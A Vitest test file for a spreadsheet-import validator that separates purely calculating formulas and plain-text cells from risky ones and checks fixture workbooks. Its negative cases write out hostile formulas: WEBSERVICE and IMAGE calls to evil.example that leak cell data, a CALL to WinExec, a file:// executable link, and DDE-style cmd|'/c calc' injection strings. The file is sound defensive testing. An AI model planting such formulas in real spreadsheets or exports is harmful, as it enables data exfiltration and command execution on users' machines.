import { expect, test } from 'vitest'
import { globSync, readdirSync, readFileSync } from 'node:fs'
import { basename, join } from 'node:path'
import { SHEET_LIMITS } from '#domain/sheets/sheet-file.ts'
import { allRows } from '#tests/support/sheets/sheet-rows.ts'
import texts from '#tests/support/sheets/text-files.json' with { type: 'json' }
import { FileRefusal } from './file-kind.ts'
import { isPlainFormula, isPlainText } from './formula-safety.ts'
import { checkPlainWorkbook } from './plain-workbook.ts'
import { openSheet } from './open-sheet.ts'

test.each([
  'SUM(A1:A9)*1.15',
  'IF(B2="WEBSERVICE(x)|",\'Sheet (1)\'!A1,ROUND ( C2,2))',
  '_xlfn.XLOOKUP(A2,Codes[Code(old)],Codes[[#All],[Price|SAR]])',
  '_xlfn._xlws.FILTER(A1:B9,B1:B9>0)',
  '_xlfn.LET(_xlpm.x,A1,_xlpm.f(_xlpm.x))',
  "Table1[it''s (x)]",
  'A1',
])('%s only calculates', (formula) => expect(isPlainFormula(formula)).toBe(true))

test.each([
  '_xlfn.WEBSERVICE("https://evil.example/?"&A1)',
  '_xlfn.IMAGE("https://evil.example")',
  'IF(TRUE,webservice (A1))',
  'HYPERLINK("file:///c:/a.exe")',
  'RTD("x",,"y")',
  'CALL("kernel32","WinExec","JCJ","calc",0)',
  '_xlfn.NEXT.YEARS.FUNCTION(A1)',
  "cmd|'/c calc'!A0",
  "T[a'b]&_xlfn.WEBSERVICE(A1)&T[c'd]",
])('%s may do more', (formula) => expect(isPlainFormula(formula)).toBe(false))

test.each(['RW300101', '5', '-5', '+966 (11) 234-5678', '- أبيض، 24', '@ site', '="0012"', "'=1+1", '', '3-4 (x)'])(
  'the cell %s is text',
  (cell) => expect(isPlainText(cell)).toBe(true),
)

test.each(["=cmd|' /C calc'!A0", '=1+1', '  =A1', '\t=A1', '+SUM(A1)', '-2+3+cmd|x!A', '@SUM(1)', '＝A1', '="a"&B1'])(
  'the cell %s would be calculated',
  (cell) => expect(isPlainText(cell)).toBe(false),
)

test('a workbook of a customer passes, whatever program made it', async () => {
  const refused: string[] = []
  const files = globSync('tests/support/sheets/files/*.xlsx')
  for (const file of files)
    await checkPlainWorkbook(readFileSync(file), SHEET_LIMITS).catch((error: unknown) => {
      refused.push(`${basename(file)} ${error instanceof FileRefusal ? error.problem.code : 'unreadable'}`)
    })
  expect(files.length).toBeGreaterThan(40)
  expect(refused.toSorted()).toEqual([
    'csv-named.xlsx other-format',
    'empty-0-bytes.xlsx other-format',
    'truncated.xlsx unreadable',
    '~$lock-owner.xlsx other-format',
  ])
})

const FOLDER = join(import.meta.dirname, '../../tests/support/sheets')

/** Workbooks as they were written, and texts by their bytes. */
const FILES = new Map([
  ...readdirSync(join(FOLDER, 'files')).map((name) => [name, readFileSync(join(FOLDER, 'files', name))] as const),
  ...Object.entries(texts).map(([name, bytes]) => [name, Buffer.from(bytes, 'latin1')] as const),
])

/** What is read of a file: the reason of a refusal, or its first rows, a line each. */
async function readingOf(file: Buffer): Promise<unknown> {
  try {
    const { rows } = await openSheet({ file, choice: {}, limits: SHEET_LIMITS })
    return (await allRows(rows())).slice(0, 6).map(({ row, cells }) => `${row}: ${JSON.stringify(cells)}`)
  } catch (error) {
    // The process that reads sheets says the same of what it does not know.
    return error instanceof FileRefusal ? error.problem : { code: 'unreadable' }
  }
}

test('files as programs and people write them are read as before', async () => {
  const read: Record<string, unknown> = {}
  for (const name of [...FILES.keys()].toSorted()) read[name] = await readingOf(FILES.get(name)!)
  await expect(`${JSON.stringify(read, null, 2)}\n`).toMatchFileSnapshot('../../tests/support/sheets/read-files.json')
})
